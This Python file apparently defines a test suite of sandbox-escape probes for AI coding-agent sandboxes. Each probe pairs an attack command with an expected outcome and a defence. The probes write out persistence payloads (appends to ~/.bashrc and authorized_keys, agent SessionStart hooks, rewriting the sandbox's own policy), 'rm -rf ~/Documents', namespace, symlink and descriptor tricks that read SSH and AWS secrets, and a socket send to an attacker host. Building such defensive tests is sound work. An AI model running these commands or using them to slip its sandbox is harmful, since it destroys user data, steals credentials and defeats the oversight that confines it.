from probe_runner import *

klass('B', 'Writing outside the project (persistence in the account, data loss)',
      correct='EROFS/EACCES/ENOENT, or the write lands in a discarded private layer; host file byte-identical (content, mode, mtime, xattr).',
      defence='Only project + private tmp writable: read-only/absent mounts or copy-on-write layer for $HOME; Landlock as second layer. Landlock alone does not mediate chmod/chown/utime/setxattr/ioctl.')


def has(path):
    def f(c, p, r, t):
        try:
            with open(c.sub(path, p, t), 'rb') as fh:
                return t.encode() in fh.read()
        except OSError:
            return False
    return f


def gone(path):
    return lambda c, p, r, t: not os.path.lexists(c.sub(path, p, t))


def ap(id, path, title, ref, content='# @TOK@', **k):
    probe(id, title, 'mkdir -p "$(dirname "%s")" 2>/dev/null; printf "%%s\\n" %s >> "%s"' % (path, "'" + content + "'", path), check=has(path), ref=ref,
          oracle='host %s contains the token' % path.replace('@H@', '~').replace('@P@', 'proj'), **k)


ap('B01', '@H@/.bashrc', 'append to ~/.bashrc', 'claude-code bashSecurity comment "~/.bashrc overwritten" (claude-wiki.com/bash-security)')
ap('B02', '@H@/.profile', 'append to ~/.profile', 'srt DANGEROUS_FILES')
ap('B03', '@H@/.ssh/authorized_keys', 'add an SSH key to authorized_keys', 'classic persistence')
ap('B04', '@H@/.ssh/config', 'add ProxyCommand to ~/.ssh/config', 'classic persistence')
ap('B05', '@H@/.gitconfig', 'set core.hooksPath / alias in ~/.gitconfig', 'juliensimon/canopy#30 (mount .gitconfig read-only); srt DANGEROUS_FILES')
ap('B06', '@H@/.config/systemd/user/x.service', 'drop a user systemd unit', 'classic persistence')
ap('B07', '@H@/.config/autostart/x.desktop', 'drop an XDG autostart entry', 'flatpak CVE-2024-32462 neighbourhood')
ap('B08', '@H@/.local/bin/git', 'shadow git in ~/.local/bin (PATH hijack)', 'PostHog/posthog#87021')
ap('B09', '@H@/.local/lib/python@PYV@/site-packages/usercustomize.py', 'usercustomize.py in the user site', 'krash.dev before-your-code-runs; litellm .pth incident (pydevtools.com)')
ap('B10', '@H@/.config/pip/pip.conf', 'redirect pip to an evil index', 'supply chain')
ap('B11', '@H@/.cargo/config.toml', 'rustc-wrapper in ~/.cargo/config.toml while ~/.cargo is granted', 'a policy that grants all of ~/.cargo', defence='grant registry/git cache subdirs, never config.toml / bin')
ap('B12', '@H@/.npmrc', 'script-shell in ~/.npmrc', 'supply chain')
ap('B13', '@H@/.vimrc', 'autocmd in ~/.vimrc', 'classic')
ap('B14', '@H@/.tmux.conf', 'run-shell in ~/.tmux.conf', 'classic')
ap('B15', '@H@/.claude/settings.json', 'install a SessionStart hook in the agent user settings', 'CVE-2026-25725; claude-code#84863')
ap('B16', '@H@/.config/clash/policy.star', "rewrite the sandbox's own user policy", 'CVE-2025-53773 (agent flips its own approval setting); claude-code#84863', defence='policy/config/state directories of the sandbox are never writable inside, even under a broad grant')
ap('B17', '@O@/Makefile', 'poison a sibling project', 'codex#33342')
ap('B18', '@H@/src/.npmrc', 'create a config file in the parent directory of the project (picked up by upward search)', 'upward config search of npm/cargo/git')
ap('B19', '@H@/src/proj-evil/x.txt', 'prefix confusion: write to "proj-evil" when "proj" is allowed', 'CVE-2025-53109/53110 (filesystem MCP prefix bypass + symlinks); PizzaPi#865')
probe('B20', 'rm -rf the documents folder', 'rm -rf "@H@/Documents"', check=gone('@H@/Documents/thesis.txt'), ref='claude-code#10077, #93099 (57,235 files), #83058 (~200 GB)', oracle='~/Documents gone on the host')
probe('B21', 'truncate(2) a file outside', 'import os; os.truncate("@H@/notes.txt",0)', lang='py', check=lambda c, p, r, t: os.path.getsize(c.H + '/notes.txt') == 0, ref='Landlock before ABI 3 lacked TRUNCATE', oracle='size of ~/notes.txt is 0')
probe('B22', 'rename a file outside', 'mv "@H@/notes.txt" "@H@/notes.bak"', check=gone('@H@/notes.txt'), ref='data-loss reports', oracle='~/notes.txt gone')
probe('B23', 'chmod a private directory world-readable', 'chmod 777 "@H@/.ssh"', check=lambda c, p, r, t: os.stat(c.H + '/.ssh').st_mode & 0o777 == 0o777, ref='Landlock docs: chmod not mediated', defence='mount namespace (ro/absent) or seccomp-notify on chmod family', oracle='mode of ~/.ssh')
probe('B24', 'chmod the secret readable by others', 'chmod 644 "@H@/.ssh/id_ed25519"', check=lambda c, p, r, t: os.stat(c.H + '/.ssh/id_ed25519').st_mode & 0o44 != 0, ref='Landlock docs: chmod not mediated', oracle='mode of the key')
probe('B25', 'utimensat: falsify timestamps outside', 'touch -d 2001-01-01 "@H@/notes.txt"', check=lambda c, p, r, t: os.stat(c.H + '/notes.txt').st_mtime < 1e9, ref='Landlock docs: utime not mediated', oracle='mtime of ~/notes.txt')
probe('B26', 'setxattr on a file outside', 'import os; os.setxattr("@H@/notes.txt","user.ct",b"@TOK@")', lang='py', check=lambda c, p, r, t: _xattr(c.H + '/notes.txt', 'user.ct') == t.encode(), ref='Landlock docs: setxattr not mediated', oracle='xattr on ~/notes.txt')
probe('B27', 'FS_IOC_SETFLAGS (chattr +d) on a file outside', 'f=os.open("@H@/notes.txt",0); fl=array.array("i",[0]); fcntl.ioctl(f,0x80086601,fl); fl[0]|=0x40; fcntl.ioctl(f,0x40086602,fl)', lang='py', check=lambda c, p, r, t: _flags(c.H + '/notes.txt') & 0x40, ref='Landlock IOCTL_DEV covers devices only', oracle='inode flags of ~/notes.txt')
probe('B28', 'create a symlink in $HOME', 'ln -s /etc/passwd "@H@/@TOK@"', check=lambda c, p, r, t: os.path.islink(c.H + '/' + t), ref='symlink planting', oracle='symlink on the host')
probe('B29', 'hard-link ~/.bashrc into the project and append through the link', 'ln "@H@/.bashrc" hl && echo "# @TOK@" >> hl', check=has('@H@/.bashrc'), ref='Landlock REFER rationale', oracle='~/.bashrc contains the token')
probe('B30', 'rename a project directory into ~/.config', 'mkdir ev; echo @TOK@ > ev/x.desktop; mv -T ev "@H@/.config/autostart2"', check=has('@H@/.config/autostart2/x.desktop'), ref='Landlock REFER', oracle='directory moved on the host')
probe('B31', 'renameat2(RENAME_EXCHANGE) a project file with ~/.profile', 'open("@P@/pf","w").write("@TOK@"); print(sc(316,-100,b"@P@/pf",-100,b"@H@/.profile",2))', lang='py', check=has('@H@/.profile'), ref='Landlock REFER', oracle='~/.profile contains the token')
probe('B32', 'write through a symlink that already sits in the project (rclink -> ~/.bashrc)', 'echo "# @TOK@" >> rclink', check=has('@H@/.bashrc'), ref='CVE-2026-39861 (Claude Code sandbox escape via symlink)', oracle='~/.bashrc contains the token')
probe('B33', 'write through a freshly created symlink', 'ln -s "@H@/.profile" l2; echo "# @TOK@" >> l2', check=has('@H@/.profile'), ref='CVE-2026-39861', oracle='~/.profile contains the token')
probe('B34', 'reopen an O_PATH descriptor read-write via /proc/self/fd', 'f=os.open("@H@/.profile",os.O_PATH); g=os.open("/proc/self/fd/%d"%f,os.O_WRONLY|os.O_APPEND); os.write(g,b"@TOK@")', lang='py', check=has('@H@/.profile'), ref='magic-link reopen', oracle='~/.profile contains the token')
probe('B35', 'write to the shared /tmp of the user', 'echo @TOK@ > /tmp/ct-shared', check=lambda c, p, r, t: c.host_has('/tmp/ct-shared', t), tier=2, ref='claude-code srt default allowWrite /tmp/claude; codex writable /tmp', defence='private tmpfs (or per-session dir) on /tmp, /var/tmp, /dev/shm', oracle='file visible in the host /tmp')
probe('B36', 'symlink attack in shared /tmp against a developer program', 'ln -sf "@H@/.bashrc" /tmp/ct-predictable.log', trigger='echo "# x" > /tmp/y; echo log >> /tmp/ct-predictable.log; grep -q ^log "@H@/.bashrc" && touch "@C@/@ID@"', ref='classic /tmp symlink race', defence='private /tmp')
probe('B37', 'write to the shared /dev/shm', 'echo @TOK@ > /dev/shm/ct-w', check=lambda c, p, r, t: c.host_has('/dev/shm/ct-w', t), ref='shared-memory channel', defence='private tmpfs on /dev/shm', oracle='file visible in the host /dev/shm')
probe('B38', 'write to a FIFO in $HOME read by a developer process', 'f=os.open("@H@/fifo",os.O_RDWR|os.O_NONBLOCK); os.write(f,b"@TOK@\\n"); time.sleep(0.8)', lang='py',
      pre=lambda c, p, t: _fiforeader(c), check=lambda c, p, r, t: _fifogot(c, t), ref='FIFO as command channel', oracle='reader on the host received the token')
probe('B39', 'free disk space by deleting the caches of other tools', 'rm -rf "@H@/.cache"/*', check=gone('@H@/.cache/big/blob'), ref='claude-code#59535', defence='copy-on-write home with explicit commit; delete outside the project = ask', oracle='~/.cache emptied on the host')
probe('B40', 'append with io_uring (no open/write syscalls)', 'uring-write @H@/.profile @TOK@', lang='c', needs=('helper',), check=has('@H@/.profile'), ref='openai/codex#10814', oracle='~/.profile contains the token')


def _xattr(f, n):
    try:
        return os.getxattr(f, n)
    except OSError:
        return None


def _flags(f):
    import fcntl, array
    fd = os.open(f, os.O_RDONLY)
    a = array.array('i', [0])
    try:
        fcntl.ioctl(fd, 0x80086601, a)
    except OSError:
        return 0
    finally:
        os.close(fd)
    return a[0]


def _fiforeader(c):
    c._fifo = os.open(c.H + '/fifo', os.O_RDONLY | os.O_NONBLOCK)


def _fifogot(c, t):
    try:
        return t.encode() in os.read(c._fifo, 4096)
    except OSError:
        return False
    finally:
        os.close(c._fifo)


klass('C', 'Path, mount, descriptor and namespace tricks',
      correct='Every trick ends in EACCES/EPERM/ENOENT/EINVAL and the host object is untouched.',
      defence='no user namespaces inside (seccomp on clone/unshare/clone3/setns), no mount syscalls, descriptors >2 closed, stdin re-wrapped in a pipe, path decisions on inodes (openat2 RESOLVE_BENEATH in the launcher).')

UNS = 'unshare -Urm --propagation private bash -c '
probe('C01', 'nested user+mount namespace, then unmount what hides the home', UNS + "'for m in $(awk \"{print \\$5}\" /proc/self/mountinfo | tac); do umount -l \"$m\" 2>/dev/null && cat \"@H@/.ssh/id_ed25519\" 2>/dev/null; done; cat \"@H@/.ssh/id_ed25519\"'", check=lambda c, p, r, t: c.S['ssh'] in r.out, needs=('unshare',), ref='MNT_LOCKED rationale; bubblewrap nested-userns discussions', oracle='secret in the output')
probe('C02', 'nested user+mount namespace, remount a read-only bind read-write and write outside', UNS + "'mount -o remount,bind,rw \"@H@\" 2>/dev/null; mount -o remount,bind,rw / 2>/dev/null; echo \"# @TOK@\" >> \"@H@/.bashrc\"'", check=has('@H@/.bashrc'), needs=('unshare',), ref='MNT_LOCK_READONLY rationale', oracle='~/.bashrc contains the token')
probe('C03', 'bind-mount over a protected file inside a nested namespace to defeat a path check, then write back', UNS + "'mount --bind \"@P@\" \"@H@/.config\" 2>/dev/null; echo @TOK@ > \"@H@/.config/x\"; mount --rbind / \"@P@/tmp\" 2>/dev/null; cat \"@P@/tmp@H@/.ssh/id_ed25519\"'", check=lambda c, p, r, t: c.S['ssh'] in r.out, needs=('unshare',), ref='Landlock forbids mount changes inside a domain; plain seccomp sandboxes do not', oracle='secret in the output')
probe('C04', 'setns() into the mount namespace of a developer process', 'f=os.open("/proc/@VPID@/ns/user",0); g=os.open("/proc/@VPID@/ns/mnt",0); print(libc.setns(f,0),libc.setns(g,0)); print(open("@H@/.ssh/id_ed25519").read())', lang='py', check=lambda c, p, r, t: c.S['ssh'] in r.out, ref='nsenter', oracle='secret in the output (baseline: same namespace)')
probe('C05', 'inherited directory descriptor (fd 7 = $HOME): openat beneath it', 'f=os.open(".ssh/id_ed25519",os.O_RDONLY,dir_fd=7); print(os.read(f,200).decode())', lang='py', fds=lambda c, t: [(7, os.open(c.H, os.O_RDONLY | os.O_DIRECTORY))], check=lambda c, p, r, t: c.S['ssh'] in r.out, ref='navikt/cplt#329 (external review finding B); firejail#4845; runc CVE-2024-21626', defence='close_range(3,~0,CLOEXEC) before exec', oracle='secret in the output')
probe('C06', 'inherited open secret file (fd 9)', 'os.lseek(9,0,0); print(os.read(9,200).decode())', lang='py', fds=lambda c, t: [(9, os.open(c.H + '/.aws/credentials', os.O_RDONLY))], check=lambda c, p, r, t: c.S['aws'] in r.out, ref='navikt/cplt#329 (`cat <&3` reads a denied .env)', defence='close_range', oracle='secret in the output')
probe('C07', 'inherited connected socket (fd 8) to an outside host', 's=socket.socket(fileno=8); s.sendall(b"@TOK@\\n"); time.sleep(0.5)', lang='py', fds=lambda c, t: [(8, _conn())], check=lambda c, p, r, t: c.sinks.seen(t, 'tcp'), ref='landlock-lsm/linux#33 (sockets inherited); birdcage#32 (re-purposing existing sockets)', defence='close_range', oracle='token arrived at the remote')
probe('C08', 'stdin is a host file opened read-only: reopen it read-write via /proc/self/fd/0', 'f=os.open("/proc/self/fd/0",os.O_WRONLY|os.O_APPEND); os.write(f,b"@TOK@")', lang='py', fds=lambda c, t: [(0, os.open(c.H + '/notes.txt', os.O_RDONLY))], check=has('@H@/notes.txt'), ref='QwenLM/qwen-code#12267 round 7 (R6-1)', defence='never hand the host descriptor over: relay stdin/stdout through a pipe or pty', oracle='~/notes.txt contains the token')
probe('C09', 'stdin is a host file: fchmod it', 'os.fchmod(0,0o777)', lang='py', fds=lambda c, t: [(0, os.open(c.H + '/notes.txt', os.O_RDONLY))], check=lambda c, p, r, t: os.stat(c.H + '/notes.txt').st_mode & 0o777 == 0o777, ref='QwenLM/qwen-code#12267 (R6-1)', defence='pipe relay', oracle='mode of ~/notes.txt')
probe('C10', 'stdin is a host directory: /proc/self/fd/0/.. walks out', 'cat /proc/self/fd/0/../../.ssh/id_ed25519', fds=lambda c, t: [(0, os.open(c.P, os.O_RDONLY | os.O_DIRECTORY))], check=lambda c, p, r, t: c.S['ssh'] in r.out, ref='QwenLM/qwen-code#12267 (R6-1: walk ".." out)', defence='pipe relay', oracle='secret in the output')
probe('C11', 'receive a host directory descriptor over SCM_RIGHTS from a path socket', 's=socket.socket(socket.AF_UNIX); s.connect("/run/user/@UID@/fdgiver"); m,a,_,_=s.recvmsg(16,64); d=struct.unpack("i",a[0][2][:4])[0]\nprint(open(os.open("dev/.ssh/id_ed25519",0,dir_fd=d)).read())', lang='py', check=lambda c, p, r, t: c.S['ssh'] in r.out, ref='landlock-lsm/linux#33, #57', defence='no path to the socket; Landlock RESOLVE_UNIX (ABI 9) / seccomp on AF_UNIX connect', oracle='secret in the output')
probe('C12', 'receive a host directory descriptor over SCM_RIGHTS from an abstract socket', 's=socket.socket(socket.AF_UNIX); s.connect("\\0ct-fd-@RND@"); m,a,_,_=s.recvmsg(16,64); d=struct.unpack("i",a[0][2][:4])[0]\nprint(open(os.open("dev/.ssh/id_ed25519",0,dir_fd=d)).read())', lang='py', check=lambda c, p, r, t: c.S['ssh'] in r.out, ref='landlock-lsm/linux#57', defence='network namespace or Landlock SCOPE_ABSTRACT_UNIX_SOCKET (ABI 6)', oracle='secret in the output')
probe('C13', 'O_TMPFILE + linkat an unnamed file into $HOME', 'f=os.open("@H@",os.O_TMPFILE|os.O_RDWR,0o600); os.write(f,b"@TOK@"); libc.linkat(-100,b"/proc/self/fd/%d"%f,-100,b"@H@/tmpf",0x400)', lang='py', check=has('@H@/tmpf'), ref='path-less create', oracle='file on the host')
probe('C14', 'create an overlay whiteout (char 0:0) in the project', 'rm -f README.md; mknod README.md c 0 0 2>/dev/null || python3 -c "import os,stat; os.mknod(\'README.md\',stat.S_IFCHR|0o600,0)"', check=lambda c, p, r, t: _ischr(c.P + '/README.md'), ref='Linux >=5.8 unprivileged whiteout mknod; overlay-merging tools must not interpret them', defence='seccomp mknod S_IFCHR/S_IFBLK; merge code rejects special files', oracle='char device on the host')
probe('C15', 'plant user.overlay.* xattrs (redirect/opaque) that a later userxattr overlay mount would obey', 'os.setxattr("@P@/src","user.overlay.redirect",b"/../../.ssh"); os.setxattr("@P@/public","user.overlay.opaque",b"y")', lang='py', check=lambda c, p, r, t: _xattr(c.P + '/src', 'user.overlay.redirect') is not None, ref='overlayfs userxattr docs', defence='strip user.overlay.* on transfer, mount with redirect_dir=nofollow,metacopy=off', oracle='xattr present on the host directory')
probe('C16', 'leave a setuid copy of a shell in the project', 'cp /bin/dash sush 2>/dev/null || cp /bin/sh sush; chmod 6755 sush', check=lambda c, p, r, t: os.path.exists(c.P + '/sush') and os.stat(c.P + '/sush').st_mode & 0o6000 != 0, ref='setuid drop (matters when the sandbox runs as another uid / root)', defence='seccomp chmod with S_ISUID/S_ISGID; strip on transfer; nosuid mounts', oracle='setuid bit on the host file')
probe('C17', 'leave a unix socket / fifo in the project for the developer to open', 'mkfifo trap.fifo; python3 -c "import socket; socket.socket(socket.AF_UNIX).bind(\'trap.sock\')"', check=lambda c, p, r, t: os.path.exists(c.P + '/trap.fifo'), tier=2, landed='trap.fifo', ref='special files hang readers (grep -r)', defence='transfer only regular files, dirs and symlinks', oracle='special file on the host')
probe('C18', 'symlink pointing outside lands in the project (host tools will follow it)', 'ln -s "@H@/.ssh/id_ed25519" public/key.txt', check=lambda c, p, r, t: os.path.islink(c.P + '/public/key.txt'), tier=2, landed='public/key.txt', ref='flatpak CVE-2024-42472; huggingface/sandbox-server#16 (confused deputy follows sandbox symlinks)', defence='on transfer refuse/flag symlinks leaving the project', oracle='symlink on the host')
probe('C19', 'swap a project directory for a symlink so that the next launch binds the target', stages=[('sh', 'mv public public.bak; ln -s "@H@/.ssh" public; ls public >/dev/null'), ('sh', 'cat public/id_ed25519')], check=lambda c, p, r, t: c.S['ssh'] in r.out, ref='CVE-2026-39861; TNG/oh-my-agentic-coder#31 (planted objects -> ~/.ssh canonicalised into a grant); flatpak CVE-2024-42472', defence='open grant roots with O_NOFOLLOW/openat2(RESOLVE_NO_SYMLINKS) from a trusted fd; never canonicalise sandbox-controlled names', oracle='secret in the second run')
probe('C20', 'open_by_handle_at on a guessed handle ("shocker")', 'import ctypes\nclass FH(ctypes.Structure): _fields_=[("b",ctypes.c_uint),("t",ctypes.c_int),("h",ctypes.c_ubyte*128)]\nh=FH(128); m=ctypes.c_int(); d=os.open("@P@",os.O_RDONLY)\nr=libc.name_to_handle_at(-100,b"@H@/.ssh/id_ed25519",ctypes.byref(h),ctypes.byref(m),0); print(r)\nf=libc.open_by_handle_at(d,ctypes.byref(h),0); print("ESCAPED" if f>=0 and b"SK-ssh" in os.read(f,200) else "BLOCKED")', lang='py', ref='docker shocker; needs CAP_DAC_READ_SEARCH (only with --as-root)', defence='drop capabilities; seccomp name_to_handle_at/open_by_handle_at', oracle='ESCAPED printed')


def _conn():
    s = socket.create_connection((EVIL4, 9418), 3)
    return s.detach()


def _ischr(f):
    try:
        return stat.S_ISCHR(os.lstat(f).st_mode)
    except OSError:
        return False
